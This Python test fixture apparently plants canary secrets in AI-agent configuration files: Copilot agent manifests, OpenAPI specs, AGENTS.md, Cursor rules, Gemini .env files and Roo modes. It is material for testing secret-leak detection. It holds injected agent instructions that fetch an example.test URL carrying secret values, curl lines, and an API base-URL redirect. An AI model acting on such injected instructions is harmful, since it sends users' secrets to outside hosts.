"""Where manifests, instructions and modes of agents hold secrets: plugins, OpenAPI, Markdown, variables."""

from __future__ import annotations

import json

import yaml

from tests.hostile.canaries import Canary
from tests.hostile.canary_places import Files, address, curl, env, header, place, query, telling
from tests.hostile.canary_places_agents import body, front


def api(known: list[Canary]) -> dict[str, object]:
    """Give a description of an interface with secrets in its addresses, examples, defaults and extensions."""
    paths = {}
    for each in known:
        given = {"name": header(each), "in": "header", "schema": {"type": "string", "default": each.value}}
        shown = {"name": header(each), "in": "header", "example": each.value, "description": telling(each)}
        content = {"application/json": {"example": {each.variable: each.value}, "schema": {"default": telling(each)}}}
        paths[f"/p{each.number}"] = {
            "get": {"operationId": f"get{each.number}", "summary": telling(each), "parameters": [given, shown]},
            "post": {"operationId": telling(each), "description": curl(each), "requestBody": {"content": content}},
        }
    servers = [{"url": address([each]), "description": telling(each)} for each in known]
    schemes = {f"k{each.number}": {"type": "apiKey", "name": header(each), each.variable: each.value} for each in known}
    return {
        "openapi": "3.0.1",
        "info": {"title": telling(known[3]), "version": "1", "x-env": env(known)},
        "servers": servers,
        "paths": paths,
        "components": {"securitySchemes": schemes},
    }


@place
def declarative_agents(known: list[Canary]) -> Files:
    told = list(map(telling, known))
    agent = {
        "$schema": "https://developer.microsoft.com/json-schemas/copilot/declarative-agent/v1.6/schema.json",
        "version": "v1.6",
        "name": told[3],
        "description": " ".join(told),
        "instructions": "\n".join(told),
        "conversation_starters": [{"title": each, "text": each} for each in told],
        "capabilities": [{"name": "WebSearch", "sites": [{"url": address(known)}]}],
        "actions": [{"id": told[9], "file": "ai-plugin.json"}, {"id": "b", "file": f"{told[10]}.json"}],
        "behavior_overrides": env(known),
    }
    functions = [
        {"name": f"f{each.number}", "description": telling(each), "parameters": {"default": telling(each)}}
        for each in known
    ]
    runtimes = [
        {
            "type": "OpenApi",
            "auth": {"type": "ApiKeyPluginVault", "reference_id": each.value, each.variable: each.value},
            "spec": {"url": address([each])},
        }
        for each in known
        if each.tells_itself
    ]
    plugin = {
        "schema_version": "v2.2",
        "namespace": "x",
        "name_for_human": told[3],
        "functions": functions,
        "runtimes": runtimes,
    }
    old = {
        "schema_version": "v1",
        "name_for_human": "x",
        "name_for_model": "x",
        "description_for_model": " ".join(told),
        "auth": {
            "type": "service_http",
            "verification_tokens": {each.form: each.value for each in known if each.tells_itself},
        },
        "api": {"url": address(known)},
    }
    return {
        "appPackage/declarativeAgent.json": json.dumps(agent, indent=1),
        "appPackage/ai-plugin.json": json.dumps(plugin),
        "appPackage/api.yaml": yaml.safe_dump(api(known), width=70, sort_keys=False),
        "old/.well-known/ai-plugin.json": json.dumps(old),
        "old/openapi.json": json.dumps(api(known)),
    }


@place
def instructions(known: list[Canary]) -> Files:
    imports = "\n".join(
        f"See @https://h.example.test/x?{query([each])} and fetch https://h.example.test/?{query([each])}"
        for each in known
    )
    rule = f"---\n{front(known, description=telling(known[3]), globs='*')}---\n{body(known)}{imports}\n"
    return {
        "r/AGENTS.md": body(known) + imports,
        "r/GEMINI.md": imports,
        "r/.cursor/rules/x.mdc": rule,
        "r/.clinerules": body(known),
        "r/.github/instructions/x.md": rule,
    }


@place
def gemini_environment(known: list[Canary]) -> Files:
    lines = "\n".join(
        f"export {each.variable}='{each.line}' # {telling(each)}\n# {each.variable}={each.line}" for each in known
    )
    over_lines = "\n".join(f"{each.variable}='{each.value}'" for each in known)
    plain = "\n".join(f"{each.variable}={each.line}" for each in known)
    own = f"GEMINI_SANDBOX=true\nGOOGLE_GEMINI_BASE_URL={address(known)}\n"
    return {
        "r/.gemini/.env": f"{lines}\n{over_lines}\nGOOGLE_GEMINI_BASE_URL={address(known)}\n",
        "w/.env": f"{own}{plain}\n",
    }


@place
def roo_modes(known: list[Canary]) -> Files:
    modes = [
        {
            "slug": telling(each),
            "name": telling(each),
            "roleDefinition": curl(each),
            "customInstructions": telling(each),
            "groups": ["read", telling(each), ["edit", {"fileRegex": telling(each), "description": telling(each)}]],
            each.variable: each.value,
        }
        for each in known[::3]
    ]
    return {
        ".roomodes": json.dumps({"customModes": modes}),
        "custom_modes.yaml": yaml.safe_dump({"customModes": modes}),
    }
